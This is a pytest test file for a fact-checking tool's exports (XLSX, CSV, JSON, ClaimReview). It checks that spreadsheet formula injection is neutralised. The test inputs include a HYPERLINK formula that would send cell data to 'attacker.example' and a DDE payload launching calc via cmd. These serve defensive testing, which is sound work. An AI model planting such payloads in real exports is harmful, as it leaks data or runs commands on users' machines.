"""Every export read back: the workbook (content, types, looks, safety), CSV, JSON,
ClaimReview, atomic writes, and the ``export`` command."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from core.commands import export_project
from core.errors import Errors, ExportError
from core.export.atomic import write_atomic
from core.export.cells import CELL_LIMIT, safe_sheet_title, safe_text
from core.export.claimreview import VERDICT_RATINGS, write_claimreview
from core.export.csvfile import write_csv
from core.export.jsonfile import write_json
from core.export.rows import CLAIM_COLUMNS, verified_subset
from core.export.xlsx import write_xlsx
from core.model import Result, Review
from core.project.store import Project
from tests.core.test_store import sample_result

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full toll")'
HEADERS = [h for h, _w in CLAIM_COLUMNS]


def reviewed(**changes: Any) -> Result:
    """The sample with verdicts, and c1's sentence replaced by one that looks like a formula."""
    base = sample_result()
    c1 = dataclasses.replace(base.claims[0], **changes) if changes else base.claims[0]
    return dataclasses.replace(
        base,
        claims=(c1, *base.claims[1:]),
        reviews={
            "c1": Review("c1", "verified", "police and hospital agree"),
            "c3": Review("c3", "false", "hospital says 9"),
            "s1": Review("s1", "verified", ""),
        },
    )


def rows_by_header(ws: Any) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


@pytest.fixture
def workbook(tmp_path: Path) -> Iterator[Any]:
    target = tmp_path / "claims.xlsx"
    write_xlsx(reviewed(sentence=FORMULA), target, settings={"match_threshold": 0.5,
                                                              "published": None})
    wb = openpyxl.load_workbook(target)
    yield wb
    wb.close()


def test_workbook_has_every_sheet(workbook: Any) -> None:
    assert workbook.sheetnames == ["Claims", "Events", "Conflicts", "Statements", "Sources",
                                   "About"]


def test_claims_sheet_values_and_types(workbook: Any) -> None:
    ws = workbook["Claims"]
    assert [c.value for c in ws[1]] == HEADERS
    rows = rows_by_header(ws)
    assert [r["Claim id"].value for r in rows] == ["c1", "c2", "c3"]
    c1 = rows[0]
    assert c1["Source"].value == "norvale-a.pdf"
    assert c1["Outlet"].value == "Daily Norvale"
    assert c1["Date"].value == dt.datetime(2031, 3, 4)
    assert c1["Date"].is_date
    assert c1["Figure as written"].value == "At least 12"
    assert c1["Value"].value == 12
    assert c1["Value"].data_type == "n"
    assert c1["Low"].value == 12
    assert c1["High"].value is None
    assert (c1["Qualifier"].value, c1["Measure"].value) == ("at_least", "killed")
    assert (c1["Subject"].value, c1["Actor"].value, c1["Place"].value) == (
        "people", "unknown attackers", "Norvale")
    assert c1["Period start"].value == dt.datetime(2031, 3, 3)
    assert c1["Attribution"].value == "police"
    assert c1["Event"].value == "Norvale · bombing · 2031-03-03"
    assert (c1["Status"].value, c1["Note"].value) == ("verified", "police and hospital agree")
    assert rows[1]["Status"].value == "unverified"
    assert rows[1]["Note"].value is None
    assert rows[2]["Low"].value == 13
    assert isinstance(rows[2]["Value"].value, int)


def test_a_sentence_that_looks_like_a_formula_stays_text(workbook: Any, tmp_path: Path) -> None:
    cell = rows_by_header(workbook["Claims"])[0]["Sentence"]
    assert cell.value == FORMULA  # exactly, without an apostrophe
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    workbook.save(tmp_path / "again.xlsx")  # reading it back: still no formula anywhere
    with zipfile.ZipFile(tmp_path / "claims.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = z.read(name)
            assert b"<f>" not in xml
            assert b"<f " not in xml


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+44 20 7946 0000 called the line",
        "-12 degrees overnight",
        "@officials said 12",
        "\tindented",
        "\rcarriage return",
        "=",
    ],
)
def test_dangerous_leading_characters_never_become_formulas(tmp_path: Path, text: str) -> None:
    target = tmp_path / "x.xlsx"
    write_xlsx(reviewed(actor=text, sentence=text), target)
    wb = openpyxl.load_workbook(target)
    row = rows_by_header(wb["Claims"])[0]
    for cell in (row["Actor"], row["Sentence"]):
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix
    wb.close()


def test_plain_text_is_not_quote_prefixed(workbook: Any) -> None:
    row = rows_by_header(workbook["Claims"])[1]
    assert row["Sentence"].value.startswith("Officials")
    assert not row["Sentence"].quotePrefix
    assert row["Sentence"].alignment.wrap_text


def test_claims_sheet_looks(workbook: Any) -> None:
    ws = workbook["Claims"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:X4"
    assert ws.column_dimensions["S"].width == 70
    status = f"Q2:Q{ws.max_row}"
    validations = ws.data_validations.dataValidation
    assert [str(v.sqref) for v in validations] == [status]
    assert validations[0].type == "list"
    assert validations[0].formula1 == '"unverified,verified,disputed,false,unclear"'
    ranges = {str(cf.sqref): [r.formula for r in cf.rules] for cf in ws.conditional_formatting}
    assert sorted(f[0] for f in ranges[status]) == sorted(
        ['"verified"', '"false"', '"disputed"', '"unclear"'])


def test_links_open_the_source_at_its_page(workbook: Any) -> None:
    rows = rows_by_header(workbook["Claims"])
    assert rows[0]["Link"].hyperlink.target == "file:///news/norvale-a.pdf#page=1"
    assert rows[0]["Link"].value == "page 1"
    assert rows[1]["Link"].hyperlink.target == "file:///news/norvale-a.pdf#page=2"
    assert rows[2]["Link"].hyperlink.target == "file:///news/norvale-b.txt"
    assert rows[2]["Link"].value == "open source"


def test_events_conflicts_statements_sources_about(workbook: Any) -> None:
    events = [[c.value for c in r] for r in workbook["Events"].iter_rows(min_row=2)]
    assert events == [["Norvale · bombing · 2031-03-03", "e1", "killed", 2, "c1, c3", 12, None,
                       "12 or more", 12, "divergent (c1, c3)", "Norvale",
                       dt.datetime(2031, 3, 3), None]]
    conflicts = [[c.value for c in r] for r in workbook["Conflicts"].iter_rows(min_row=2)]
    assert conflicts == [["divergent", "killed", "Norvale · bombing · 2031-03-03", "c1",
                          "At least 12 killed", "norvale-a.pdf", "c3", "Nearly 15 killed",
                          "norvale-b.txt", None, "at least 12 vs nearly 15", "x1"]]
    statements = rows_by_header(workbook["Statements"])
    assert [(r["Statement id"].value, r["Speaker"].value, r["Kind"].value, r["Status"].value)
            for r in statements] == [("s1", "The governor", "quote", "verified")]
    sources = rows_by_header(workbook["Sources"])
    assert [(r["Document id"].value, r["SHA-256"].value, r["Pages"].value) for r in sources] == [
        ("d1", "a" * 64, 2), ("d2", "b" * 64, None)]
    assert sources[0]["Published"].value == dt.datetime(2031, 3, 4)
    about = {r[0].value: r[1].value for r in workbook["About"].iter_rows(min_row=2)}
    assert about["Generator"].startswith("Claimdesk ")
    assert isinstance(about["Exported (UTC)"], dt.datetime)
    assert about["Setting: match_threshold"] == 0.5
    assert about["Verified only"] == "no"
    assert about["Claims"] == 3


def test_verified_only(tmp_path: Path) -> None:
    target = tmp_path / "v.xlsx"
    write_xlsx(reviewed(), target, verified_only=True)
    wb = openpyxl.load_workbook(target)
    assert [r["Claim id"].value for r in rows_by_header(wb["Claims"])] == ["c1"]
    assert wb["Conflicts"].max_row == 1  # c3 is not verified: no conflict left to show
    assert [r[4].value for r in wb["Events"].iter_rows(min_row=2)] == ["c1"]
    assert [r["Document id"].value for r in rows_by_header(wb["Sources"])] == ["d1"]
    wb.close()
    subset = verified_subset(reviewed())
    assert [c.id for c in subset.claims] == ["c1"]
    assert [s.id for s in subset.statements] == ["s1"]


def test_long_text_is_cut_with_a_visible_note(tmp_path: Path) -> None:
    long = "Officials said " + "very " * 8000 + "many."
    target = tmp_path / "long.xlsx"
    write_xlsx(reviewed(sentence=long), target)
    wb = openpyxl.load_workbook(target)
    value = rows_by_header(wb["Claims"])[0]["Sentence"].value
    wb.close()
    assert len(value) == CELL_LIMIT
    assert value.startswith("Officials said very")
    assert value.endswith(f"[cut by Claimdesk: Excel holds 32,767 characters; {len(long):,} "
                          "in full]")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("short", "short"),
        ("page\x0cbreak", "page break"),
        ("bell\x07", "bell "),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("x" * CELL_LIMIT, "x" * CELL_LIMIT),
    ],
)
def test_safe_text(text: str, expected: str) -> None:
    assert safe_text(text) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Claims", "Claims"),
        ("Kabul [2031]: who/what?", "Kabul 2031 whowhat"),
        ("a*b\\c", "abc"),
        ("x" * 40, "x" * 31),
        ("'quoted'", "quoted"),
        ("[]:*?", "Sheet"),
    ],
)
def test_safe_sheet_title(name: str, expected: str) -> None:
    assert safe_sheet_title(name) == expected


def test_csv_has_a_bom_and_every_claim(tmp_path: Path) -> None:
    target = tmp_path / "claims.csv"
    write_csv(reviewed(sentence=FORMULA), target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [r["Claim id"] for r in rows] == ["c1", "c2", "c3"]
    assert rows[0]["Value"] == "12"
    assert rows[0]["High"] == ""
    assert rows[0]["Date"] == "2031-03-04"
    assert rows[0]["Status"] == "verified"
    assert rows[0]["Document id"] == "d1"
    assert rows[0]["Link"] == "file:///news/norvale-a.pdf#page=1"
    assert rows[0]["Sentence"] == "'" + FORMULA  # Excel would run it on opening the CSV
    assert rows[1]["Sentence"].startswith("Officials")


def test_csv_can_keep_text_verbatim(tmp_path: Path) -> None:
    target = tmp_path / "claims.csv"
    write_csv(reviewed(sentence=FORMULA), target, excel_safe=False, verified_only=True)
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert [(r["Claim id"], r["Sentence"]) for r in rows] == [("c1", FORMULA)]


def test_json_follows_the_contract(tmp_path: Path) -> None:
    target = tmp_path / "claims.json"
    write_json(reviewed(), target)
    data = json.loads(target.read_text(encoding="utf-8"))
    assert data["format"] == "claims/1"
    claim = data["claims"][0]
    assert {k: claim[k] for k in ("id", "value", "low", "high", "event_id", "status", "note")} == {
        "id": "c1", "value": 12, "low": 12, "high": None, "event_id": "e1",
        "status": "verified", "note": "police and hospital agree"}
    assert data["statements"][0]["status"] == "verified"
    assert data["conflicts"][0]["claim_ids"] == ["c1", "c3"]
    write_json(reviewed(), target, verified_only=True)
    assert [c["id"] for c in json.loads(target.read_text())["claims"]] == ["c1"]


def test_claimreview_for_claims_with_a_verdict(tmp_path: Path) -> None:
    target = tmp_path / "claims.jsonld"
    write_claimreview(reviewed(), target, organisation="Valley Fact Desk",
                      organisation_url="https://facts.example")
    data = json.loads(target.read_text(encoding="utf-8"))
    assert data["@context"] == "https://schema.org"
    reviews = {r["identifier"]: r for r in data["@graph"]}
    assert set(reviews) == {"c1", "c3"}  # c2 has no verdict
    c1 = reviews["c1"]
    assert c1["@type"] == "ClaimReview"
    assert c1["claimReviewed"].startswith("At least 12 people were killed")
    assert c1["author"] == {"@type": "Organization", "name": "Valley Fact Desk",
                            "url": "https://facts.example"}
    assert c1["reviewRating"] == {"@type": "Rating", "ratingValue": 3, "bestRating": 3,
                                  "worstRating": 1, "alternateName": "True"}
    appearance = c1["itemReviewed"]["appearance"]
    assert appearance["url"] == "https://example.org/a"
    assert appearance["datePublished"] == "2031-03-04"
    assert c1["itemReviewed"]["author"]["name"] == "police"
    assert c1["reviewBody"] == "police and hospital agree"
    c3 = reviews["c3"]
    assert c3["reviewRating"]["alternateName"] == "False"
    assert c3["itemReviewed"]["appearance"]["url"] == "file:///news/norvale-b.txt"
    assert "datePublished" not in c3["itemReviewed"]


@pytest.mark.parametrize(
    ("status", "value", "name"),
    [
        ("verified", 3, "True"),
        ("disputed", 2, "Disputed"),
        ("unclear", 2, "Unproven"),
        ("false", 1, "False"),
    ],
)
def test_verdict_scale(status: str, value: int, name: str) -> None:
    assert VERDICT_RATINGS[status] == (value, name)


def test_claimreview_needs_an_organisation(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="names its publisher"):
        write_claimreview(reviewed(), tmp_path / "x.jsonld", organisation=" ")
    assert not (tmp_path / "x.jsonld").exists()


def test_unwritable_target_gives_a_clear_error(tmp_path: Path) -> None:
    target = tmp_path / "taken.xlsx"
    target.mkdir()  # something that cannot be replaced by a file
    with pytest.raises(ExportError) as info:
        write_xlsx(reviewed(), target)
    assert str(info.value).startswith(f"cannot write '{target}'")
    assert str(info.value).endswith("it is a folder: give a file name")
    assert [p.name for p in tmp_path.iterdir()] == ["taken.xlsx"]  # no temporary file left


def test_exports_are_readable_files(tmp_path: Path) -> None:
    target = tmp_path / "claims.json"
    write_json(reviewed(), target)
    assert target.stat().st_mode & 0o777 == 0o644
    target.chmod(0o664)
    write_json(reviewed(), target)
    assert target.stat().st_mode & 0o777 == 0o664


def test_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "claims.json"
    target.write_text("previous export")

    def half(fh: Any) -> None:
        fh.write(b"{half")
        raise RuntimeError("disk went away")

    with pytest.raises(RuntimeError):
        write_atomic(target, half)
    assert target.read_text() == "previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["claims.json"]


def test_export_command_writes_every_format(tmp_path: Path, capsys: Any) -> None:
    path = tmp_path / "story.claimdesk"
    with Project.create(path) as project:
        project.add_result(sample_result())
        project.set_review(Review("c3", "verified", "wire confirms"))
        project.set_correction("c3", "value", 14)
    out = {s: tmp_path / f"out.{s}" for s in ("xlsx", "csv", "json", "jsonld")}
    code = export_project(path, xlsx=out["xlsx"], csv=out["csv"], json=out["json"],
                          claimreview=out["jsonld"], verified_only=True,
                          organisation="Valley Fact Desk")
    assert code == 0
    assert capsys.readouterr().out.count("wrote ") == 4
    wb = openpyxl.load_workbook(out["xlsx"])
    row = rows_by_header(wb["Claims"])[0]
    assert (row["Claim id"].value, row["Value"].value) == ("c3", 14)  # the corrected value
    wb.close()
    assert [c["value"] for c in json.loads(out["json"].read_text())["claims"]] == [14]
    assert json.loads(out["jsonld"].read_text())["@graph"][0]["identifier"] == "c3"


@pytest.mark.parametrize(
    ("options", "code", "message"),
    [
        ({}, 2, "nothing to write"),
        ({"claimreview": "x.jsonld"}, 2, Errors.E038),
        ({"json": "missing-folder/x.json"}, 1, "cannot write"),
    ],
)
def test_export_command_failures(
    tmp_path: Path, capsys: Any, options: dict[str, str], code: int, message: str
) -> None:
    path = tmp_path / "story.claimdesk"
    with Project.create(path) as project:
        project.add_result(sample_result())
    kwargs: dict[str, Any] = {"xlsx": None, "csv": None, "json": None, "claimreview": None}
    kwargs.update({k: tmp_path / v for k, v in options.items()})
    assert export_project(path, verified_only=False, **kwargs) == code
    assert message in capsys.readouterr().err


def test_export_command_refuses_a_non_project(tmp_path: Path, capsys: Any) -> None:
    path = tmp_path / "notes.claimdesk"
    path.write_text("hello")
    assert export_project(path, xlsx=tmp_path / "x.xlsx", csv=None, json=None,
                          claimreview=None, verified_only=False) == 1
    assert Errors.E013 in capsys.readouterr().err


# --- hostile content (issue 15) ---------------------------------------------------------------

def test_a_control_character_does_not_hide_a_formula_in_the_csv(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    write_csv(reviewed(sentence="\x00=1+1 people", actor="\x1b@SUM(A1)"), target)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    for value in (row["Sentence"], row["Actor"]):
        assert value.startswith("'")
        assert not any(ord(ch) < 32 for ch in value)


def test_a_control_character_in_a_note_is_cleaned_in_every_writer(tmp_path: Path) -> None:
    result = dataclasses.replace(
        reviewed(), reviews={"c1": Review("c1", "verified", "\x00=cmd|' /C calc'!A0\ufffe")}
    )
    write_csv(result, tmp_path / "x.csv")
    write_xlsx(result, tmp_path / "x.xlsx")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        csv_note = next(csv.DictReader(fh))["Note"]
    assert csv_note == "' =cmd|' /C calc'!A0 "
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cell = rows_by_header(wb["Claims"])[0]["Note"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (" =cmd|' /C calc'!A0 ", "s", True)
    wb.close()


@pytest.mark.parametrize("bad", ["\ufffe", "\uffff", "\x01", "\ud800", "\x0b\x0c"])
def test_xml_illegal_characters_never_crash_a_writer(tmp_path: Path, bad: str) -> None:
    result = reviewed(sentence=f"Twelve{bad} people were killed.", actor=bad)
    write_xlsx(result, tmp_path / "x.xlsx")
    write_csv(result, tmp_path / "x.csv")
    write_json(result, tmp_path / "x.json")
    write_claimreview(result, tmp_path / "x.jsonld", organisation="Desk")
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert rows_by_header(wb["Claims"])[0]["Sentence"].value.startswith("Twelve ")
    wb.close()
    json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda d: d / "missing" / "x.xlsx", "the folder does not exist"),
        (lambda d: d, "it is a folder: give a file name"),
        (lambda d: d / ("n" * 300 + ".xlsx"), "the file name is too long"),
    ],
)
def test_export_errors_say_what_happened(tmp_path: Path, make: Any, reason: str) -> None:
    for write in (write_xlsx, write_csv, write_json):
        with pytest.raises(ExportError) as info:
            write(reviewed(), make(tmp_path))
        assert str(info.value).endswith(reason)
        assert "another program" not in str(info.value)


def test_a_name_at_the_file_system_limit_is_accepted(tmp_path: Path) -> None:
    name = "r" * 245 + ".xlsx"  # 250 bytes: the temporary name must not be longer
    write_xlsx(reviewed(), tmp_path / name)
    write_csv(reviewed(), tmp_path / (name[:-5] + ".csv"))
    assert sorted(p.name for p in tmp_path.iterdir()) == [name[:-5] + ".csv", name]


def test_a_failed_xlsx_write_prints_no_ignored_exceptions(tmp_path: Path) -> None:
    import subprocess
    import sys

    code = (
        "from tests.core.test_export import reviewed\n"
        "from core.export.xlsx import write_xlsx\n"
        "from core.errors import ExportError\n"
        "try:\n"
        f"    write_xlsx(reviewed(), {str(tmp_path / 'missing' / 'x.xlsx')!r})\n"
        "except ExportError as exc:\n"
        "    print(exc)\n"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False,
                         cwd=Path(__file__).resolve().parents[2], timeout=120)
    assert "the folder does not exist" in run.stdout
    assert run.stderr == ""


def test_printable_file_names() -> None:
    from core.export.atomic import printable

    assert printable("plain name.txt") == "plain name.txt"
    assert printable("two\nlines\x1b[31m.txt") == "two\\nlines\\x1b[31m.txt"


def test_the_about_sheet_says_why_a_vague_figure_reads_its_value(tmp_path: Path) -> None:
    result = reviewed()
    vague = dataclasses.replace(result.claims[0], value=100.0, qualifier="vague",
                                low=200.0, high=None, number_text="hundreds")
    target = tmp_path / "vague.xlsx"
    write_xlsx(dataclasses.replace(result, claims=(vague, *result.claims[1:])), target)
    about = {r[0].value: r[1].value
             for r in openpyxl.load_workbook(target)["About"].iter_rows(min_row=2)}
    assert "200 or more" in about["Vague value 100"]
    assert not [k for k in about if str(k).startswith("Vague value") and k != "Vague value 100"]
